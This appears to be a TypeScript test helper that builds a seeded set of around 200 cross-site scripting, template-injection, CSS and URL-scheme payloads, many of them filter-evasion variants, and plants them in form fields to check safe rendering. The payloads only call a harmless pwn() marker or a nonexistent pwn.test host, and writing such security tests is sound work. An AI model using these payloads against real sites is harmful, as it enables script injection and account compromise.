// Texts that run, load or lead away if a page takes them for anything but text, and how they are planted in fields.

/** The function that a text calls if it runs. */
export const FUNCTION = 'pwn';
/** The address that a text asks for, if it doesn't ask for one of the host pwn.test, which doesn't exist. */
export const ADDRESS = '/pwn';

/** Written by hand: scripts, handlers, addresses, templates, styles, entities, and texts that end a quotation early. */
const OWN = [
  '<script>pwn()</script>',
  '<script src=/pwn></script>',
  '<script src=//pwn.test/x.js></script>',
  '<SCRIPT>pwn()</SCRIPT>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<script type=module>pwn()</script>',
  '<script>pwn()//é',
  '</script><script>pwn()</script>',
  '</title><script>pwn()</script>',
  '</textarea><script>pwn()</script>',
  '</style><script>pwn()</script>',
  '</noscript><script>pwn()</script>',
  '--><script>pwn()</script><!--',
  ']]><script>pwn()</script>',
  '"><script>pwn()</script>',
  "'><script>pwn()</script>",
  '<template><script>pwn()</script></template>',
  '<![CDATA[<script>pwn()</script>]]>',
  '<?xml version="1.0"?><script>pwn()</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "/pwn">]><x>&y;</x>',
  '<!--<img src="--><img src=x onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<xmp><p title="</xmp><img src=x onerror=pwn()>">',

  '<svg><script>pwn()</script></svg>',
  '<svg><script href=/pwn /></svg>',
  '<svg><a xlink:href=javascript:pwn()><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><set onbegin=pwn() attributeName=x>',
  '<svg><use href=/pwn#x /></svg>',
  '<svg><image href=/pwn /></svg>',
  '<svg><foreignObject><body onload=pwn()></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=pwn()>',
  '<math href=javascript:pwn()>x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:pwn()>x',

  '<img src=/pwn>',
  '<img src=//pwn.test/x.png>',
  '<img srcset=/pwn>',
  '<img src=x onerror=pwn()>',
  '<img src=x onerror="pwn()">',
  "<img src=x onerror='pwn()'>",
  '<img src=x onerror=&#112;wn()>',
  '<img src=x oNeRrOr=pwn()>',
  '<img/src=x/onerror=pwn()>',
  '<img src="x`"onerror=pwn()>',
  '<image src=x onerror=pwn()>',
  '<video poster=/pwn></video>',
  '<input type=image src=/pwn onerror=pwn()>',
  '<table background=/pwn>',
  '<bgsound src=/pwn>',
  '<xss id=x tabindex=1 onfocus=pwn()></xss>',
  '<plaintext onclick=pwn()>',

  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<iframe srcdoc=&lt;script&gt;parent.pwn()&lt;/script&gt;></iframe>',
  '<iframe src=javascript:pwn()></iframe>',
  '<iframe src=/pwn></iframe>',
  '<frameset onload=pwn()>',
  '<portal src=/pwn onload=pwn()>',
  '<object data=/pwn></object>',
  '<object data=javascript:pwn()></object>',
  '<embed src=/pwn>',
  '<applet code=/pwn onerror=pwn()>',
  '<base href=//pwn.test/>',
  '<base href=/pwn/>',
  '<meta http-equiv=refresh content="0;url=/pwn">',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<link rel=stylesheet href=/pwn>',
  '<link rel=prefetch href=/pwn>',
  '<a href=javascript:pwn()>x</a>',
  '<a href=/pwn ping=/pwn>x</a>',
  '<form action=/pwn><input type=submit autofocus></form>',
  '<form><button formaction=javascript:pwn()>x</button></form>',
  '<isindex action=javascript:pwn()>',

  '<style>*{background:url(/pwn)}</style>',
  '<style>@import "/pwn";</style>',
  '</style><style>*{background:url(/pwn)}',
  '<p style=background:url(/pwn)>x</p>',
  '<div style="width:expression(pwn())">x</div>',
  ';background:url(/pwn);',
  'url(/pwn)',

  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  'javascript://%0apwn()',
  'javascript&colon;pwn()',
  'java&#10;script:pwn()',
  'vbscript:pwn()',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  '//pwn.test/',
  '\\\\pwn.test\\x',
  'http://pwn.test/?<script>pwn()</script>',

  '[x](javascript:pwn())',
  '![x](/pwn)',
  '[x]: javascript:pwn() "x"',
  '<javascript:pwn()>',
  '{{constructor.constructor("pwn()")()}}',
  '{{pwn()}}',
  '{{7*7}}',
  '{{- pwn() }}',
  '{% pwn() %}',
  '${pwn()}',
  '${7*7}',
  '#{pwn()}',
  '<%=pwn()%>',
  '[[pwn()]]',
  '@(pwn())',
  '$t(common:save)',
  '=HYPERLINK("/pwn","x")',

  '&lt;script&gt;pwn()&lt;/script&gt;',
  '&#60;script&#62;pwn()&#60;/script&#62;',
  '&#x3c;svg onload=pwn()&#x3e;',
  '&ltscript&gtpwn()',
  '&amp;lt;img src=/pwn&amp;gt;',
  '%3Cscript%3Epwn%28%29%3C/script%3E',
  '%3Cimg%20src=/pwn%3E',
  '\\u003cscript\\u003epwn()\\u003c/script\\u003e',
  '\\x3cscript\\x3epwn()\\x3c/script\\x3e',
  '＜script＞pwn()＜/script＞',
  '＜img src=/pwn＞',
  '<ſcript>pwn()</ſcript>',
  '<ımg src=/pwn>',
  '‹script›pwn()‹/script›',
  '≮script>pwn()</script>',

  '"-pwn()-"',
  "'-pwn()-'",
  '`-pwn()-`',
  '";pwn();//',
  "';pwn();//",
  '\\";pwn();//',
  '"}]};pwn();//',
  '{"__proto__":{"innerHTML":"<img src=/pwn>"}}',
  '" onmouseover="pwn()',
  "' onmouseover='pwn()",
  "'onload='pwn",
  '" autofocus onfocus="pwn()" x="',
  '" style="background:url(/pwn)',
];

/** Elements, each with the attribute that runs what it contains. */
const ELEMENTS = [
  'q onclick',
  'b onmouseover',
  'svg onload',
  'body onload',
  'style onload',
  'x onpointerenter',
  'p onanimationstart',
  'a href=# onclick',
  'form onsubmit',
  'marquee onstart',
  'dialog open onclose',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'video src=x onerror',
  'audio src=x onerror',
  'source src=x onerror',
  'track src=x onerror',
  'object data=x onerror',
  'link rel=stylesheet href=x onerror',
];

const WAYS: readonly ((element: string) => string)[] = [
  (element) => `<${element}=pwn()>`,
  (element) => `"><${element}="pwn()">`,
  (element) => `'><${element}='pwn()'>`,
  (element) => `<${element.toUpperCase()}=&#x70;wn()>`,
];

export const MANY = 200;

/** The first two hundred texts. All are single lines as they are stored: trimmed, composed, without invisible characters. */
export const PAYLOADS = [...OWN, ...WAYS.flatMap((way) => ELEMENTS.map(way))].slice(0, MANY);

// What fields accept.
const ANY = /^/;
export const ASCII = /^[ -~]+$/;
/** The part of an email address before the @. */
export const EMAIL = /^[^\s,:;<>()[\]\\"@]+$/;
/** The end of a web address. */
export const WEBSITE = /^[^\s\\"<>`]+$/;
/** Names of files without folders. */
export const FILE = /^[^/\\]+$/;
/** Cells that are imported as they are, because no spreadsheet would take them for a formula. */
export const CELL = /^[^'"=+\-@`;\\\s][^;]*$/;
/** Texts that look the same in a JSON string. */
export const JSON_TEXT = /^[^"\\]+$/;
/** Headers that look the same in a JSON string. */
export const HEADER = /^[ !#-[\]-~]+$/;

/** Returns some of the texts: always the same ones for a seed. */
export function choose(count: number, seed: number): string[] {
  let state = seed * 2_654_435_761 + 12_345;
  const below = (most: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return (state >>> 16) % most;
  };
  const rest = [...PAYLOADS];
  return Array.from({ length: Math.min(count, rest.length) }, () => rest.splice(below(rest.length), 1)[0]!);
}

/** Letters that nobody confuses, because names that look the same are refused. */
const LETTERS = 'abcdefghjkpqtxyz';
const mark = (number: number) => LETTERS[(number >> 4) & 15]! + LETTERS[number & 15]!;
/** Up to this length, a field has no room for the mark of the round. */
const SHORT = 20;

/** The texts of one round, by the names of their fields. */
export class Planting {
  readonly texts = new Map<string, string>();
  readonly round: number;
  readonly #chosen: readonly string[];

  constructor(chosen: readonly string[], round: number) {
    this.#chosen = chosen;
    this.round = round;
  }

  /**
   * Returns a text for a field: a payload that the field accepts, and a mark of the field and, except in a short field, of
   * the round. Each round gives the field another payload. If the field accepts none of the chosen ones, it gets one of
   * the others.
   */
  readonly plant = (field: string, most: number, fits: RegExp = ANY): string => {
    if (this.texts.has(field)) throw new Error(`${field} has its text already`);
    const at = this.texts.size;
    const end = mark(at) + (most > SHORT ? mark(this.round) : '');
    const fitting = (all: readonly string[]) => all.filter((it) => it.length + end.length <= most && fits.test(it));
    const own = fitting(this.#chosen);
    const pool = own.length > 0 ? own : fitting(PAYLOADS);
    const text = pool[(this.round + at) % pool.length]! + end;
    this.texts.set(field, text);
    return text;
  };

  /** Returns the text that a field has. */
  text(field: string): string {
    const text = this.texts.get(field);
    if (text === undefined) throw new Error(`${field} has no text`);
    return text;
  }
}
